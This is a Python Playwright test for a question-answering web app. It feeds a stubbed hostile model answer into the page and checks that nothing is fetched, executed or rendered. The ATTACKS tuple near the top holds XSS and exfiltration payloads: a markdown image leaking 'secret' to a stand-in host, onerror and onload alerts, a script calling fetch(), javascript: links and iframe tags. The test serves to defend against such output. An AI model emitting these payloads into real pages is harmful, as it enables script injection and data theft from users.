"""A hostile model's answer in the real page: no request elsewhere, nothing rendered, nothing to follow."""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, expect

from tests.played_model import PlayedModel, play_model
from tests.processes import serve

QUESTION = "Quelles conditions de réussite pour TAPAJ ?"
ATTACKS = (
    "Le détail est ici ![suivi](http://127.0.0.1:9/p.png?q=secret) pour tous [1].",
    "<img src=http://127.0.0.1:9/x onerror=alert(1)> TAPAJ verse une prime de 4 000 € [1].",
    "<script>fetch('http://127.0.0.1:9/')</script> TAPAJ a un numéro vert [1].",
    "[Inscrivez-vous](http://127.0.0.1:9/) ou [ici](javascript:alert(1)) avant vendredi [2].",
    '<a href="http://127.0.0.1:9/">TAPAJ</a> <iframe src=http://127.0.0.1:9/></iframe> recrute [1].',
    "<link rel=stylesheet href=http://127.0.0.1:9/l.css> TAPAJ brille [1].",
    "<svg onload=alert(1)><b>TAPAJ</b> &lt;img src=x onerror=alert(1)&gt; gagne un prix [1].",
    "Voir http://127.0.0.1:9/fuite et //127.0.0.1:9/autre pour le dossier complet [1][2][3][4][5][6][7][8][9].",
)


@pytest.fixture(scope="module")
def played() -> Iterator[PlayedModel]:
    """A model that says all of it."""
    with play_model() as model:
        model.text = " ".join(ATTACKS)
        yield model


@pytest.fixture(scope="module", params=["replace", "mark"])
def hostile_url(
    request: pytest.FixtureRequest, played: PlayedModel, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """A server that this model writes for."""
    home = tmp_path_factory.mktemp("hostile") / "home"
    settings = {
        "ESSAIM_LLM": "openai:played",
        "ESSAIM_LLM_BASE_URL": played.url,
        "ESSAIM_LLM_UNSUPPORTED": request.param,
    }
    with serve(home, **settings) as server:
        yield server.address


def test_nothing_of_a_hostile_answer_leaves_or_runs(page: Page, hostile_url: str, played: PlayedModel) -> None:
    elsewhere: list[str] = []
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def note(request: Request) -> None:
        if urlsplit(request.url).netloc != urlsplit(hostile_url).netloc:
            elsewhere.append(request.url)

    page.on("request", note)
    page.goto(hostile_url)
    page.get_by_label("Votre question", exact=True).fill(QUESTION)
    page.keyboard.press("Enter")
    answer = page.locator(".turn").last
    expect(answer.locator(".outcome, .notice.bad")).to_have_count(1)
    page.wait_for_load_state("networkidle")
    assert played.requests
    assert elsewhere == []
    assert dialogs == []
    written = answer.locator(".answer-text")
    expect(written.locator("img, script, iframe, style, link, svg[onload], b")).to_have_count(0)
    links = [str(link.get_attribute("href")) for link in answer.locator("a").all()]
    assert all(link.startswith(("/sources/", "#", f"{hostile_url}/sources/")) for link in links)
    assert not re.search(r"127\.0\.0\.1:9|javascript:|<img|<script", written.inner_text())
